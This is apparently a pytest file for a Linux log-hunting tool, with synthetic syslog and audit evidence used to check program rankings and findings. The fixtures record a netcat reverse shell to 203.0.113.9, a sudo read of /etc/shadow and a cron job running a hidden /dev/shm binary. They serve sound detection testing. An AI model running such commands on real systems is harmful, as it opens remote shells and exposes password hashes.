"""Application activity: programs, the picked one, its guards, on evidence made here."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

import linuxhunt
from linuxhunt.errors import ParameterError
from linuxhunt.hunt import Hunt

HOSTILE = "<b>x</b>'\""
SYSLOG = [
    "2026-03-12T10:00:{:02}Z web01 app[7]: job {} done in 12 ms",
    "2026-03-12T10:01:00Z web01 app[7]: license is void",
    "2026-03-12T10:01:01Z web01 app[7]: fatal error: no disk",
    "2026-03-12T10:02:00Z web01 apache2[9]: sh: 1: wgett: not found",
    "2026-03-12T10:02:01Z web01 apache2[9]: ping 198.51.100.7 failed",
    "2026-03-12T10:03:00Z web01 sudo:      eve : TTY=pts/0 ; PWD=/home/eve ; USER=root ;"
    " COMMAND=/usr/bin/cat /etc/shadow",
    "2026-03-12T10:03:00Z web01 sudo: pam_unix(sudo:session): session opened for user root(uid=0)"
    " by eve(uid=1001)",
    "2026-03-12T10:03:01Z web01 sudo: pam_unix(sudo:session): session closed for user root",
    "2026-03-12T10:04:00Z web01 CRON[901]: pam_unix(cron:session): session opened for user"
    " root(uid=0) by (uid=0)",
    "2026-03-12T10:04:00Z web01 CRON[902]: (root) CMD (/dev/shm/.x/run >/dev/null 2>&1)",
    "2026-03-12T10:04:01Z web01 CRON[901]: pam_unix(cron:session): session closed for user root",
]
AUDIT = [
    "type=SYSCALL msg=audit(1773309600.100:11): arch=c000003e syscall=59 success=yes exit=0"
    " a0=1 a1=2 a2=3 a3=4 items=0 ppid=1 pid=50 auid=1001 uid=1001 gid=1001 euid=1001 suid=1001"
    " fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=7 comm=\"bash\" exe=\"/usr/bin/bash\"",
    "type=EXECVE msg=audit(1773309600.100:11): argc=1 a0=\"-bash\"",
    "type=SYSCALL msg=audit(1773309601.100:12): arch=c000003e syscall=59 success=yes exit=0"
    " a0=1 a1=2 a2=3 a3=4 items=0 ppid=50 pid=51 auid=1001 uid=1001 gid=1001 euid=1001 suid=1001"
    " fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=7 comm=\"nc\" exe=\"/usr/bin/nc\"",
    "type=EXECVE msg=audit(1773309601.100:12): argc=5 a0=\"nc\" a1=\"203.0.113.9\" a2=\"443\""
    " a3=\"-e\" a4=\"/bin/sh\"",
]  # fmt: skip


def write(folder: Path, *, audit: bool = True) -> Path:
    logs = folder / "web01" / "var" / "log"
    logs.mkdir(parents=True)
    many = [SYSLOG[0].format(n, n) for n in range(40)]
    logs.joinpath("syslog").write_text("\n".join([*many, *SYSLOG[1:]]) + "\n")
    folder.joinpath("web01", "etc").mkdir()
    folder.joinpath("web01", "etc", "hostname").write_text("web01\n")
    if audit:
        logs.joinpath("audit").mkdir()
        logs.joinpath("audit", "audit.log").write_text("\n".join(AUDIT) + "\n")
    return folder


@pytest.fixture(scope="module")
def hunt(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hunt]:
    held = linuxhunt.connect(write(tmp_path_factory.mktemp("both") / "case"), keep=False)
    yield held
    held.workspace.close()


def test_programs_that_wrote_or_ran_those_worth_a_look_first(hunt: Hunt) -> None:
    shown = hunt.applications.programs[["Program", "Rows", "Severe", "Risky", "Runs", "Findings"]]
    rows = {name: row for name, *row in shown.to_numpy().tolist()}
    assert rows["nc"] == [0, 0, 0, 1, 1]
    assert rows["apache2"] == [2, 0, 1, 0, 0]
    assert rows["app"] == [42, 1, 0, 0, 0]
    assert shown["Program"].iloc[0] == "nc"
    assert hunt.applications.choice.value == "nc"


def test_the_picked_program(hunt: Hunt) -> None:
    hunt.applications.pick("app")
    page = hunt.applications.program
    assert page.name == "app"
    volume = page.volume[["other", "severe"]].sum().to_dict()
    assert volume == {"other": 41, "severe": 1}
    assert page.rare["Template"].tolist() == ["license is void", "fatal error: no disk"]
    assert page.risky.empty
    text = page.view().text
    assert "app: 42 log lines, 1 of them errors or worse, 0 executions, 0 findings." in text
    assert "No risky message" in text
    assert "No execution of app is recorded" in text


def test_risky_messages_of_a_program_are_findings(hunt: Hunt) -> None:
    hunt.applications.choice.select("apache2")
    shown = hunt.applications.program.risky[["Severity", "Risk", "SyslogMessage"]]
    assert shown.to_numpy().tolist() == [
        ["Medium", "Shell's own error in a web server's log", "sh: 1: wgett: not found"]
    ]
    findings = hunt.applications.findings
    own = findings[findings["Title"] == "Shell's own error in a web server's log: apache2"]
    assert own[["EventSeverity", "DvcHostname", "EvidenceCount"]].to_numpy().tolist() == [
        ["Medium", "web01", 1]
    ]


def test_trees_start_at_the_program_in_a_window_of_their_own(hunt: Hunt) -> None:
    hunt.applications.choice.select("bash")
    page = hunt.applications.program
    assert page.processes["CommandLine"].tolist() == ["-bash", "nc 203.0.113.9 443 -e /bin/sh"]
    try:
        page.between("2026-03-12 10:00:00", "2026-03-12 10:00:01")
        assert page.processes["CommandLine"].tolist() == ["-bash"]
        page.between("2026-03-01", "2026-03-20", limit=3)
        assert page.tree_rows == 4
        assert page.processes.empty
        assert "need 4 rows, more than the 3" in page.view().text
        assert "limit=4)" in page.view().text
        page.between("2026-03-01", "2026-03-20", limit=4)
        assert len(page.processes) == 2
    finally:
        page.between(limit=500_000)


def test_a_program_that_wrote_too_much_is_not_fetched(hunt: Hunt) -> None:
    hunt.applications.choice.select("app")
    page = hunt.applications.program
    page.most = 41
    try:
        assert (page.too_many, len(page.messages), len(page.rare)) == (42, 0, 0)
        assert "app wrote 42 lines in this window, more than the 41" in page.view().text
        assert "hunt.applications.program.most = 42" in page.view().text
    finally:
        page.most = 200_000


def test_a_process_is_focused_and_an_unknown_one_refused(hunt: Hunt) -> None:
    guid = str(hunt.applications.processes["TargetProcessGuid"].iloc[1])
    hunt.applications.focus(guid)
    assert "1 picked" in hunt.applications.view().text
    with pytest.raises(ParameterError, match="no process nowhere"):
        hunt.applications.focus("nowhere")
    with pytest.raises(ParameterError, match="no program nowhere"):
        hunt.applications.choice.select("nowhere")


def test_findings_carry_all_lines_of_their_act(hunt: Hunt) -> None:
    findings = hunt.applications.findings.set_index("CommandLine")
    log = "web01/var/log/syslog:"
    sudo = findings.loc["/usr/bin/cat /etc/shadow", "RecordIds"]
    assert sorted(sudo) == [f"{log}45", f"{log}46", f"{log}47"]
    job = findings.loc["/dev/shm/.x/run >/dev/null 2>&1", "RecordIds"]
    assert sorted(job) == [f"{log}48", f"{log}49", f"{log}50"]


def test_a_host_without_audit_has_the_same_findings_on_sudo_and_cron(tmp_path: Path) -> None:
    held = linuxhunt.connect(write(tmp_path / "case", audit=False), keep=False)
    findings = held.applications.findings
    held.workspace.close()
    commands = findings.loc[findings["EventSeverity"] == "High", "CommandLine"]
    assert set(commands) == {"/usr/bin/cat /etc/shadow", "/dev/shm/.x/run >/dev/null 2>&1"}


def test_programs_can_be_investigated(hunt: Hunt) -> None:
    assert hunt.applications.entities()["program", "app"] == "program app"
    hunt.investigate("program", "app")
    assert hunt.applications.program.name == "app"
